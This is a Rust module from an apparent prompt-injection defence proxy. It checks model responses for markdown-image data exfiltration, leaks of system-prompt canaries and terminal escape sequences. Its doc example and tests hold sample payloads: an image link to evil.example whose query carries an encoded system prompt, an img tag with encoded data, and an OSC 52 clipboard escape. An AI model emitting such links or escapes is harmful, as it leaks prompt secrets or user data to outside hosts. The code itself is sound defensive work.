//! Output-side checks the proxy runs on model responses: markdown image
//! exfiltration, canary leakage and terminal escape sequences.
//!
//! # Example
//! ```
//! use warden_injection::output::{check_output, new_canary, OutputKind};
//!
//! let canary = new_canary();
//! let leaked = format!("Sure! My instructions say {}.", canary.to_uppercase());
//! let found = check_output(&leaked, &[canary.as_str()]);
//! assert!(found.iter().any(|f| f.kind == OutputKind::CanaryLeak));
//!
//! let img = "![x](https://evil.example/p.png?d=U2VjcmV0IHN5c3RlbSBwcm9tcHQgaGVyZQ)";
//! assert!(check_output(img, &[]).iter().any(|f| f.kind == OutputKind::MarkdownImageExfil));
//! assert!(check_output("plain answer", &[]).is_empty());
//! ```

use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::canon::{canonicalize, Input, Map};
use crate::decode;

/// What an output finding is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum OutputKind {
    /// A markdown/HTML image (or auto-fetched link) to an external URL whose
    /// query carries long or encoded values.
    MarkdownImageExfil,
    /// A canary from the system prompt appears (possibly obfuscated).
    CanaryLeak,
    /// ANSI / terminal control sequences (CSI, OSC incl. hyperlinks and clipboard).
    TerminalEscape,
}

/// One output finding; spans are byte offsets into the checked text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct OutputFinding {
    /// Kind of finding.
    pub kind: OutputKind,
    /// Start byte offset.
    pub start: usize,
    /// End byte offset (exclusive).
    pub end: usize,
    /// Short explanation (never the matched text).
    pub detail: &'static str,
}

static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"(?i)!\[[^\]\n]{0,200}\]\(\s*<?(https?://[^\s)>]+)>?[^)\n]{0,200}\)"#,
        r#"|<img\b[^>]{0,400}?\bsrc\s*=\s*["']?(https?://[^\s"'>]+)"#,
        r#"|^\s{0,3}\[[^\]\n]{1,100}\]:\s*<?(https?://[^\s>]+)"#,
    ))
    .unwrap_or_else(|_| Regex::new("$^").unwrap_or_else(|_| unreachable!()))
});

static ESCAPED_ESC: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:\\x1b|\\u001b|\\033|\\e)[\[\]]")
        .unwrap_or_else(|_| Regex::new("$^").unwrap_or_else(|_| unreachable!()))
});

/// A fresh random canary to place in a system prompt, e.g. `wdn7f3a9...`.
pub fn new_canary() -> String {
    let id = uuid::Uuid::new_v4().simple().to_string();
    format!("wdn{}", &id[..24])
}

/// Checks a model response. `canaries` are the canaries placed in the
/// system prompt; they are found even with case changes, separators or
/// zero-width characters inside, reversed, or base64/hex/percent-encoded.
pub fn check_output(text: &str, canaries: &[&str]) -> Vec<OutputFinding> {
    let mut out = Vec::new();
    markdown_images(text, &mut out);
    canary_leaks(text, canaries, &mut out);
    terminal_escapes(text, &mut out);
    out.sort_by_key(|f| (f.start, f.end));
    out
}

fn markdown_images(text: &str, out: &mut Vec<OutputFinding>) {
    if !(text.contains("](")
        || text.contains("<img")
        || text.contains("<IMG")
        || text.contains("]:"))
    {
        return;
    }
    for caps in IMAGE.captures_iter(text) {
        let Some(whole) = caps.get(0) else { continue };
        let Some(url) = caps.get(1).or_else(|| caps.get(2)).or_else(|| caps.get(3)) else {
            continue;
        };
        if suspicious_url(url.as_str()) {
            out.push(OutputFinding {
                kind: OutputKind::MarkdownImageExfil,
                start: whole.start(),
                end: whole.end(),
                detail: "external image URL carries long or encoded data",
            });
        }
    }
}

/// Query values (or path segments) long or encoded enough to smuggle data.
pub(crate) fn suspicious_url(url: &str) -> bool {
    let (path, query) = match url.split_once('?') {
        Some((p, q)) => (p, q),
        None => (url, ""),
    };
    let encodedish = |v: &str| {
        let pct = v.matches('%').count();
        v.len() >= 24
            || (v.len() >= 12
                && (pct >= 2
                    || v.chars().filter(char::is_ascii_digit).count() >= 4
                        && v.chars().any(|c| c.is_ascii_uppercase())))
    };
    if query
        .split('&')
        .any(|kv| encodedish(kv.split_once('=').map_or(kv, |x| x.1)))
    {
        return true;
    }
    // Data stuffed into a path segment, e.g. /log/<base64>.png
    path.split('/').skip(3).any(|seg| seg.len() >= 40)
}

fn alnum_view(text: &str) -> (String, Vec<(u32, u32)>) {
    let c = canonicalize(&Input {
        layer: "plain",
        text: text.to_string(),
        map: Map::Identity(0),
        depth: 0,
    });
    let mut s = String::with_capacity(c.view.text.len());
    let mut spans = Vec::with_capacity(c.view.text.len());
    for (i, ch) in c.view.text.char_indices() {
        if ch.is_ascii_alphanumeric() {
            s.push(ch);
            let (a, b) = c.view.original(i, i + 1);
            spans.push((a as u32, b as u32));
        }
    }
    (s, spans)
}

fn canary_leaks(text: &str, canaries: &[&str], out: &mut Vec<OutputFinding>) {
    let wanted: Vec<String> = canaries
        .iter()
        .map(|c| {
            c.chars()
                .filter(char::is_ascii_alphanumeric)
                .map(|c| c.to_ascii_lowercase())
                .collect::<String>()
        })
        .filter(|c| c.len() >= 8)
        .collect();
    if wanted.is_empty() {
        return;
    }
    let (view, spans) = alnum_view(text);
    for w in &wanted {
        let rev: String = w.chars().rev().collect();
        for (needle, detail) in [
            (w.as_str(), "canary present"),
            (rev.as_str(), "canary present, reversed"),
        ] {
            let mut from = 0;
            while let Some(p) = view[from..].find(needle) {
                let s = from + p;
                let e = s + needle.len();
                if let (Some(a), Some(b)) = (spans.get(s), spans.get(e - 1)) {
                    out.push(OutputFinding {
                        kind: OutputKind::CanaryLeak,
                        start: a.0 as usize,
                        end: b.1 as usize,
                        detail,
                    });
                }
                from = e;
            }
        }
    }
    // Encoded forms: decode payloads and look again.
    let input = Input {
        layer: "plain",
        text: text.to_string(),
        map: Map::Identity(0),
        depth: 0,
    };
    let mut budget = 1 << 18;
    for p in decode::find_payloads(&input, &mut budget) {
        let (v, _) = alnum_view(&p.text);
        if wanted.iter().any(|w| v.contains(w.as_str())) {
            let (s, e) = p.map.span(0, p.text.len().max(1));
            out.push(OutputFinding {
                kind: OutputKind::CanaryLeak,
                start: s,
                end: e,
                detail: "canary present in an encoded payload",
            });
        }
    }
}

fn terminal_escapes(text: &str, out: &mut Vec<OutputFinding>) {
    for (i, c) in text.char_indices() {
        let detail = match c {
            '\u{1b}' => match text.as_bytes().get(i + 1) {
                Some(b']') => "OSC sequence (hyperlink, clipboard or title)",
                Some(b'[') => "CSI sequence (cursor, colour, erase)",
                Some(b'P') | Some(b'_') | Some(b'^') => "DCS/APC/PM sequence",
                _ => "escape character",
            },
            '\u{9b}' => "C1 CSI control",
            '\u{9d}' => "C1 OSC control",
            '\u{90}' | '\u{9e}' | '\u{9f}' => "C1 string control",
            '\u{7}' | '\u{8}' => "bell or backspace control",
            _ => continue,
        };
        out.push(OutputFinding {
            kind: OutputKind::TerminalEscape,
            start: i,
            end: i + c.len_utf8(),
            detail,
        });
    }
    if text.contains('\\') {
        for m in ESCAPED_ESC.find_iter(text) {
            out.push(OutputFinding {
                kind: OutputKind::TerminalEscape,
                start: m.start(),
                end: m.end(),
                detail: "escaped terminal sequence",
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn canary_obfuscated_and_encoded() {
        let c = "wdn0123456789abcdefabcdef";
        let kinds = |t: &str| {
            check_output(t, &[c])
                .into_iter()
                .filter(|f| f.kind == OutputKind::CanaryLeak)
                .count()
        };
        assert_eq!(kinds("here: wdn-0123-4567-89ab-cdef-abcd-ef"), 1);
        assert_eq!(
            kinds("W D N 0 1 2 3 4 5 6 7 8 9 A B C D E F A B C D E F"),
            1
        );
        assert_eq!(kinds("wdn0123\u{200B}456789abcdefabcdef"), 1);
        assert_eq!(kinds("fedcbafedcba9876543210ndw"), 1);
        assert_eq!(kinds("d2RuMDEyMzQ1Njc4OWFiY2RlZmFiY2RlZg=="), 1);
        assert_eq!(kinds("nothing to see"), 0);
    }

    #[test]
    fn images_and_escapes() {
        assert!(check_output("![chart](https://cdn.example.com/chart.png)", &[]).is_empty());
        assert!(check_output("[docs](https://example.com/?q=abc)", &[]).is_empty());
        let html = r#"<img src="https://x.example/a?data=aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ">"#;
        assert_eq!(check_output(html, &[]).len(), 1);
        let f = check_output("ok \u{1b}]52;c;ZXZpbA==\u{7} done", &[]);
        assert!(f.iter().all(|f| f.kind == OutputKind::TerminalEscape));
        assert_eq!(f.len(), 2);
        assert_eq!(check_output(r"print('\x1b[2J')", &[]).len(), 1);
    }

    #[test]
    fn canaries_are_random() {
        assert_ne!(new_canary(), new_canary());
        assert_eq!(new_canary().len(), 27);
    }
}
